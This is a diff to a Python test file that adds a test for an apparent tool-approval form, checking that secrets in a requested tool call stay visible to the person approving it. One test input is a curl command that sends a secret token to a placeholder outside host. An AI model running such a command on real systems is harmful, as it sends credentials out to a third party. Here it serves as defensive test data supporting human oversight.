@@ -223,3 +223,33 @@ class TestChanges:
         asked = question(world, "Write", file_path="link", content="x")._replace(facts=(("leads to", place),))
         shown = "".join(render(block, 80, colour=False, hide=str) for block in approval_form(asked).above)
         assert place in shown.replace("\n", "").replace(" ", "")
+
+
+SECRET = "tok-9f8e7d6c5b4a"
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("Bash", {"command": f"curl https://x.example/?k={SECRET}"}),
+        ("Write", {"file_path": "a.txt", "content": f"key = {SECRET}\n"}),
+    ],
+)
+def test_D46_what_is_asked_for_is_seen_exactly_with_secrets(world: World, tool: str, arguments: dict[str, str]) -> None:
+    """Nobody agrees to what they can't see; what others say of it is still without them."""
+    from kitbag.chat.drawing.rendering import render
+    from kitbag.chat.plain.lines import PlainLines
+
+    _, face = ask(world, "y", tool=tool, arguments=arguments)
+    (form,) = face.forms
+    above = form.above
+
+    def hide(text: str) -> str:
+        return text.replace(SECRET, "[hidden]")
+
+    for shown in (
+        "".join(render(block, 200, colour=False, hide=hide) for block in above),
+        "\n".join(line for block in above for line in PlainLines(hide).lines(block)),
+    ):
+        assert SECRET in shown
+    assert SECRET not in render(Verbatim(SECRET), 80, colour=False, hide=hide)
